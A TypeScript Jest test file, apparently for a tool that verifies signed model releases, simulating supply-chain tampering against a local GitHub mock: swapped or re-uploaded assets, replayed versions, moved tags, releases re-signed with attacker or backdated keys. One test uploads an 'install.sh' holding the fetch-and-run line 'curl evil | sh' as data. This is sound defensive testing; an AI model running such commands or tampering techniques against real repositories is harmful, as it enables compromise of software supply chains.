import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, afterEach, beforeAll, describe, expect, it } from '@jest/globals'
import type { Asset, Release } from '../../local-github/records.ts'
import { sha256 } from '../../src/domain/digest.ts'
import { BUNDLE_ASSET, MANIFEST_ASSET, MODEL_SIGNATURE_ASSET } from '../../src/domain/manifest.ts'
import { WRITER } from '../action/scene.ts'
import { newKey, set } from '../local-sigstore/scene.ts'
import { attack } from './attack.ts'
import type { Files, Stage } from './stage.ts'
import { flipByte, setStage, swap } from './stage.ts'

// Who may write the repository's contents, and cannot sign.

let stage: Stage
let before: readonly Release[]
let tags: ReadonlyMap<string, string>

beforeAll(async () => {
  stage = await setStage(['1.0.0', '1.1.0'])
  const { refs, releases } = stage.scene.repository
  before = releases.list().map((release) => ({ ...release, assets: new Map(release.assets) }))
  tags = new Map(refs)
})
afterAll(() => stage.close())

afterEach(() => {
  const { github, repository } = stage.scene
  for (const { id } of repository.releases.list()) repository.releases.remove(id)
  for (const release of before) {
    repository.releases.put({ ...release, assets: new Map() })
    const bytes = stage.assets(release.tagName.replace('churn@v', ''))
    for (const asset of release.assets.values()) {
      repository.releases.putAsset(asset)
      writeFileSync(asset.path, bytes.get(asset.name) ?? '')
    }
  }
  for (const [ref, sha] of tags) github.world.setRef(repository, ref, sha)
})

const OLD = 'churn@v1.0.0'
const NEW = 'churn@v1.1.0'

const releaseOf = (tag: string): Release => {
  const found = stage.scene.repository.releases.published(tag)
  if (found === undefined) throw new Error(`no release ${tag}`)
  return found
}

const assetOf = (name: string, tag = OLD): Asset => {
  const found = [...releaseOf(tag).assets.values()].find((one) => one.name === name)
  if (found === undefined) throw new Error(`no asset ${name}`)
  return found
}

/** Other bytes under a name, as after a deletion and an upload. */
function replace(name: string, bytes: Uint8Array, facts: Partial<Asset> = {}, tag = OLD): void {
  const path = join(stage.folder(), 'bytes')
  writeFileSync(path, bytes)
  const digest = `sha256:${sha256(bytes)}`
  const asset = { ...assetOf(name, tag), path, digest, size: bytes.length, ...facts }
  stage.scene.repository.releases.putAsset(asset)
}

function replaceAll(files: Files, tag = OLD): void {
  for (const [name, bytes] of files) replace(name, bytes, {}, tag)
}

/** By the API, with a token that may write. */
async function callApi(method: string, path: string, body?: object): Promise<void> {
  const answer = await fetch(`${stage.scene.github.apiUrl}/repos/acme/ml${path}`, {
    method,
    headers: { authorization: `Bearer ${WRITER}` },
    ...(body === undefined ? {} : { body: JSON.stringify(body) }),
  })
  if (!answer.ok) throw new Error(`${method} ${path}: ${answer.status} ${await answer.text()}`)
}

async function upload(name: string, bytes: Uint8Array): Promise<void> {
  const { id } = releaseOf(OLD)
  const { uploads } = stage.scene.github.world.origins
  const url = `${uploads}/repos/acme/ml/releases/${id}/assets?name=${name}`
  const answer = await fetch(url, {
    method: 'POST',
    headers: { authorization: `Bearer ${WRITER}`, 'content-type': 'application/octet-stream' },
    body: Buffer.from(bytes),
  })
  if (!answer.ok) throw new Error(`${name}: ${answer.status} ${await answer.text()}`)
}

const verifyOld = async (...more: readonly string[]) =>
  await stage.verifyRelease('churn@1.0.0', ...more)

it('what nobody touched verifies, at each version, with a warning that it could be changed', async () => {
  const old = await verifyOld('--download')
  expect(old).toMatchObject({ verified: true, code: 0 })
  expect(old.checks.find(({ name }) => name === 'immutable')?.outcome).toBe('warning')
  expect(await stage.verifyRelease('churn')).toMatchObject({ verified: true, code: 0 })
})

describe('assets of a published release', () => {
  attack('an asset deleted and uploaded again with other bytes', 'digests', async () => {
    await callApi('DELETE', `/releases/assets/${assetOf('weights-1.bin').id}`)
    await upload('weights-1.bin', Buffer.from('backdoored weights, sorry..'))
    return await verifyOld()
  })

  attack('other bytes behind a digest that was not computed again', 'digests', async () => {
    const bytes = stage.assets().get('weights-1.bin') ?? Buffer.of()
    replace('weights-1.bin', flipByte(bytes), { digest: `sha256:${sha256(bytes)}` })
    return await verifyOld('--download')
  })

  attack('two assets renamed to each other', 'digests', async () => {
    const [one, other] = [assetOf('weights-1.bin').id, assetOf('weights-2.bin').id]
    await callApi('PATCH', `/releases/assets/${one}`, { name: 'tmp.bin' })
    await callApi('PATCH', `/releases/assets/${other}`, { name: 'weights-1.bin' })
    await callApi('PATCH', `/releases/assets/${one}`, { name: 'weights-2.bin' })
    return await verifyOld()
  })

  attack('any asset deleted', 'assets', async () => {
    const names = ['weights-2.bin', 'data-train.sha256', 'model-card.md', MODEL_SIGNATURE_ASSET]
    const verdicts = []
    for (const name of names) {
      const asset = assetOf(name)
      // oxlint-disable-next-line no-await-in-loop -- each with all others in place
      await callApi('DELETE', `/releases/assets/${asset.id}`)
      // oxlint-disable-next-line no-await-in-loop -- as above
      verdicts.push(await verifyOld())
      stage.scene.repository.releases.putAsset(asset)
      writeFileSync(asset.path, stage.assets().get(name) ?? '')
    }
    return verdicts
  })

  attack('an asset added', 'assets', async () => {
    await upload('install.sh', Buffer.from('curl evil | sh'))
    return await verifyOld()
  })

  attack('the bundle deleted, so that it looks unsigned', 'bundle', async () => {
    await callApi('DELETE', `/releases/assets/${assetOf(BUNDLE_ASSET).id}`)
    return await verifyOld()
  })

  attack('an asset that was never uploaded to its end', 'assets', async () => {
    replace('weights-1.bin', Buffer.of(), { state: 'starter', digest: undefined, size: 0 })
    return await verifyOld()
  })

  attack(
    'a manifest of 100 MB at the release',
    'refused',
    async () => {
      replace(MANIFEST_ASSET, Buffer.alloc(100 * 1024 * 1024, ' '))
      return await verifyOld()
    },
    /manifest\.json/,
  )
})

describe('a replay', () => {
  attack('manifest and bundle of an older version under a newer one', 'version', async () => {
    for (const name of [MANIFEST_ASSET, BUNDLE_ASSET])
      replace(name, stage.assets('1.0.0').get(name) ?? Buffer.of(), {}, NEW)
    return await stage.verifyRelease('churn@1.1.0')
  })

  attack('a whole older version under the name of a newer one', 'version', async () => {
    replaceAll(stage.assets('1.0.0'), NEW)
    return [await stage.verifyRelease('churn@1.1.0'), await stage.verifyRelease('churn')]
  })

  attack('a whole older version under a version that never was', 'version', async () => {
    const { github, repository } = stage.scene
    const assets = Object.fromEntries(stage.assets('1.0.0'))
    github.world.seedReleases(repository, 1, () => ({ tagName: 'churn@v9.0.0', assets }))
    return await stage.verifyRelease('churn')
  })

  attack('the newest version deleted, so that an older one is the newest', 'version', async () => {
    await callApi('DELETE', `/releases/${releaseOf(NEW).id}`)
    return await stage.verifyRelease('churn', '--min-version', '1.1.0')
  })

  attack('a genuine version of another repository', 'version', async () => {
    replaceAll(await stage.resign(set('predicate.code.repository', 'https://github.com/acme/toy')))
    return await verifyOld()
  })
})

describe('a tag that was moved', () => {
  attack('the tag on another commit', 'commit', async () => {
    const { github, repository } = stage.scene
    const evil = stage.scene.commit({ 'train.py': 'import os\n' })
    github.world.setRef(repository, `refs/tags/${OLD}`, evil)
    return await verifyOld()
  })

  attack('the tag deleted', 'commit', async () => {
    stage.scene.github.world.setRef(stage.scene.repository, `refs/tags/${OLD}`, undefined)
    return await verifyOld()
  })
})

/** The release and its tag gone, and another one in its place. */
async function recreate(files: Files, target: string): Promise<void> {
  const { github, repository } = stage.scene
  await callApi('DELETE', `/releases/${releaseOf(OLD).id}`)
  github.world.setRef(repository, `refs/tags/${OLD}`, undefined)
  const assets = Object.fromEntries(files)
  github.world.seedReleases(repository, 1, () => ({ tagName: OLD, target, assets }))
}

describe('a release that was deleted and made again', () => {
  attack(
    'a release made again with other content, signed with a key of the attacker',
    'key',
    async () => {
      const files = await stage.resign(set('predicate.params', { learning_rate: 9 }))
      const manifest = files.get(MANIFEST_ASSET) ?? Buffer.of()
      const bundle = await newKey().sign(manifest)
      await recreate(files.set(BUNDLE_ASSET, bundle), tags.get(`refs/tags/${OLD}`) ?? '')
      return await verifyOld()
    },
  )

  attack('a release made again with the old content at another commit', 'commit', async () => {
    await recreate(stage.assets(), stage.scene.commit({ 'train.py': 'import os\n' }))
    return await verifyOld()
  })

  attack('a release made again with files of the model swapped', 'digests', async () => {
    const commit = tags.get(`refs/tags/${OLD}`) ?? ''
    await recreate(swap(stage.assets(), 'weights-1.bin', 'weights-2.bin'), commit)
    return await verifyOld()
  })

  attack(
    'a release made again by the trusted signer, against the digest in a lock file',
    'version',
    async () => {
      const locked = `sha256:${sha256(stage.assets().get(MANIFEST_ASSET) ?? '')}`
      replaceAll(await stage.resign(set('predicate.params', { learning_rate: 9 })))
      return await verifyOld('--manifest-digest', locked)
    },
  )

  attack(
    'a release made again by the trusted signer, under a version that descends from it',
    'lineage',
    async () => {
      replaceAll(await stage.resign(set('predicate.params', { learning_rate: 9 })))
      return await stage.verifyRelease('churn@1.1.0')
    },
  )

  attack('a release made again with an old key by a thief who dates it back', 'key', async () => {
    replaceAll(await stage.resign(set('predicate.createdAt', '2026-01-01T00:00:00Z')))
    return await verifyOld('--signer', `key:${stage.key} until=2026-02-01`)
  })
})
